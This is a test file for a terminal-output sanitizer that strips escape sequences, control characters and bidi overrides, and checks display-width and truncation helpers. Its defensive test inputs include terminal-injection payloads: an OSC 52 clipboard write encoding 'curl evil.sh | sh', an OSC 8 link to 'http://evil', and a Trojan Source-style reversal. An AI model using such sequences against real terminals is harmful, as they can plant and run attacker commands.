import { describe, expect, it } from 'vitest';
import { cell, displayWidth, escapeUnsafe, fit, needsSanitize, sanitize, truncate } from '../../src/model/sanitize.js';

const ESC = '\u001b';
const BEL = '\u0007';

describe('sanitize', () => {
  it('returns clean strings unchanged (same reference)', () => {
    const s = 'system:serviceaccount:kube-system:replicaset-controller';
    expect(sanitize(s)).toBe(s);
    expect(sanitize('alice@example.com ünïcödé 日本 🚀')).toBe('alice@example.com ünïcödé 日本 🚀');
    expect(needsSanitize(s)).toBe(false);
  });

  it('removes OSC title changes terminated by BEL or ST, keeping surrounding text', () => {
    expect(sanitize(`kubectl${ESC}]0;pwned${BEL}/v1.29`)).toBe('kubectl/v1.29');
    expect(sanitize(`a${ESC}]2;pwned${ESC}\\b`)).toBe('ab');
    expect(sanitize(`a\u009d0;pwned\u009cb`)).toBe('ab'); // C1 OSC … C1 ST
  });

  it('removes OSC 52 clipboard writes and OSC 8 hyperlinks', () => {
    expect(sanitize(`mallory${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`)).toBe('mallory');
    expect(sanitize(`${ESC}]8;;http://evil${ESC}\\click${ESC}]8;;${ESC}\\`)).toBe('click');
  });

  it('removes CSI sequences: clear screen, cursor moves, colours, private modes', () => {
    expect(sanitize(`x${ESC}[2J${ESC}[H${ESC}[31;1mred${ESC}[0m`)).toBe('xred');
    expect(sanitize(`${ESC}[?1049h${ESC}[?25lhidden`)).toBe('hidden');
    expect(sanitize(`a\u009b2Jb`)).toBe('ab'); // C1 CSI
  });

  it('removes DCS, APC, PM, SOS strings and single-character escapes', () => {
    expect(sanitize(`a${ESC}Pq#0;2;0;0;0${ESC}\\b`)).toBe('ab');
    expect(sanitize(`a${ESC}_payload${ESC}\\b${ESC}^pm${BEL}c${ESC}Xsos${ESC}\\d`)).toBe('abcd');
    expect(sanitize(`a${ESC}cb${ESC}7c${ESC}8d${ESC}(0e`)).toBe('abcde'); // RIS, DECSC, DECRC, charset
    expect(sanitize(`a${ESC}`)).toBe('a');
  });

  it('swallows an unterminated control string to the end', () => {
    expect(sanitize(`user${ESC}]0;never ends`)).toBe('user');
  });

  it('drops C0, C1, DEL and BEL; turns tabs/newlines/line separators into spaces', () => {
    expect(sanitize(`a${BEL}b\u0000c\u007fd\u0085e\u0090f`)).toBe('ab' + 'cd e');
    expect(sanitize('line1\nline2\r\tx\u2028y')).toBe('line1 line2  x y');
    expect(sanitize('back\bspace')).toBe('backspace');
  });

  it('removes bidi overrides, embeddings, isolates and marks so text order is intact', () => {
    // "Trojan Source"-style: RLO would show "moc.elpmaxe@ecila" reversed on screen
    expect(sanitize('\u202Ealice@example.com\u202C')).toBe('alice@example.com');
    expect(sanitize('a\u2066b\u2067c\u2068d\u2069e\u202Af\u202Bg\u202Dh\u200Ei\u200Fj\u061Ck')).toBe('abcdefghijk');
  });

  it('replaces lone surrogates but keeps pairs', () => {
    expect(sanitize('x\ud800y')).toBe('x\ufffdy');
    expect(sanitize('x\udc00y')).toBe('x\ufffdy');
    expect(sanitize('rocket 🚀')).toBe('rocket 🚀');
  });

  it('leaves nothing a terminal would interpret, whatever the input', () => {
    // every code unit below 0x100 plus the bidi set, in random order, many times
    let seed = 7;
    const rnd = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
    const pool = [...Array(256).keys()].map((c) => String.fromCharCode(c)).concat(['\u202e', '\u2066', '\u200f', '\ud83d']);
    for (let k = 0; k < 300; k++) {
      let s = '';
      for (let j = 0; j < 40; j++) s += pool[Math.floor(rnd() * pool.length)];
      const out = sanitize(s);
      expect(out).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200e\u200f]/);
    }
  });
});

describe('escapeUnsafe', () => {
  it('shows unsafe characters as JSON escapes, keeping safe text and emoji', () => {
    expect(escapeUnsafe(`a${ESC}]0;t${BEL}b`)).toBe('a\\u001b]0;t\\u0007b');
    expect(escapeUnsafe('\u202Eabc')).toBe('\\u202eabc');
    expect(escapeUnsafe('\u009b2J')).toBe('\\u009b2J');
    expect(escapeUnsafe('ok 🚀')).toBe('ok 🚀');
    expect(escapeUnsafe('lone \ud800')).toBe('lone \\ud800');
    expect(JSON.parse(`"${escapeUnsafe('\u202Ex\u0085')}"`)).toBe('\u202Ex\u0085');
  });
});

describe('display width', () => {
  it('counts wide CJK and emoji as two columns, combining marks as zero', () => {
    expect(displayWidth('abc')).toBe(3);
    expect(displayWidth('日本')).toBe(4);
    expect(displayWidth('🚀')).toBe(2);
    expect(displayWidth('e\u0301')).toBe(1);
  });

  it('truncates with an ellipsis without splitting wide characters', () => {
    expect(truncate('kube-controller-manager', 8)).toBe('kube-co…');
    expect(truncate('short', 8)).toBe('short');
    expect(truncate('日本語のテキスト', 6)).toBe('日本…'); // 2+2+1 = 5 ≤ 6; a third wide char would make 7
    expect(displayWidth(truncate('🚀🚀🚀🚀', 5))).toBeLessThanOrEqual(5);
    expect(truncate('abc', 0)).toBe('');
  });

  it('fit pads to exactly the width', () => {
    expect(fit('ab', 5)).toBe('ab   ');
    expect(displayWidth(fit('日本語のテキスト', 6))).toBe(6);
    expect(fit('abcdefgh', 4)).toBe('abc…');
    expect(fit('abcdefgh', 4, '~')).toBe('abc~');
  });

  it('cell sanitises before measuring, so escape bytes never count as columns', () => {
    expect(cell(`ev${ESC}[2Jil`, 6)).toBe('evil  ');
  });
});

describe('display width agrees with string-width (what Ink measures with)', () => {
  it('on strings of many scripts, and truncation never exceeds the width', async () => {
    const { default: stringWidth } = await import('string-width');
    const samples = [
      'alice@example.com', 'café ünïcode ñame', 'Привет мир', 'Γειά σου', '日本語のテキスト', '한국어 텍스트', '中文字符串',
      'ｶﾀｶﾅ halfwidth', 'ＦＵＬＬ ｗｉｄｔｈ', '± ° § ¶ × ÷ → ←', 'ไทย ภาษา', 'العربية', 'עברית', 'e\u0301 combining',
      '🚀 rocket', '👩‍💻 zwj', '🇩🇪 flag', '1\u20e3 keycap', 'a\u00adb soft hyphen', 'zero\u200bwidth', '가 jamo', '𠀀 astral CJK', '𝒜 math',
    ];
    for (const s of samples) {
      expect(displayWidth(s), s).toBe(stringWidth(s));
      for (const w of [1, 2, 3, 5, 8, 13]) {
        const t = truncate(s, w);
        expect(stringWidth(t), `${s} @${w}`).toBeLessThanOrEqual(w);
        expect(stringWidth(fit(s, w)), `${s} fit @${w}`).toBe(w);
      }
    }
  });
});

describe('display width of painted strings', () => {
  it('does not count colour codes', () => {
    expect(displayWidth('\u001b[1;36mhello\u001b[0m world')).toBe(11);
    expect(displayWidth('\u001b[7m日本\u001b[0m')).toBe(4);
  });
});
